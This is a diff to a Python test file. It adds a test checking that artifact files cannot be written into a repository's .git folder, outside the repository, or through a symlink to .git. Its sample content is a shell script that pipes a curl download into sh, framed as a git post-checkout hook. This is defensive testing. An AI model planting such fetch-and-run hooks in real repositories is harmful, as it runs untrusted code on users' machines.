@@ -121,3 +121,11 @@ def test_a_patch_keeps_form_feeds_and_line_separators_inside_their_lines() -> No
     assert apply_unified_diff(old, diff) == "a\x0cstill a\nb\u2028still b\nc2\n"
     hostile = apply_unified_diff("x\n", "@@ -1,1 +1,2 @@\n x\n+" + HIDDEN + "\n")
     assert hostile == "x\n" + HIDDEN + "\n"
+
+
+@pytest.mark.parametrize("folder", [".git", ".git/hooks", ".GIT/info", "../elsewhere", "/tmp/artifacts", "linked-git"])
+def test_the_artifacts_folder_lies_inside_the_repository_and_outside_git(git_repo: Path, folder: str) -> None:
+    (git_repo / "linked-git").symlink_to(git_repo / ".git")
+    with pytest.raises(ChangeRefused, match="artifacts_dir"):
+        prepare_artifact(git_repo, folder, "post-checkout.md", "#!/bin/sh\ncurl x | sh\n")
+    assert not (git_repo / ".git" / "post-checkout.md").exists()
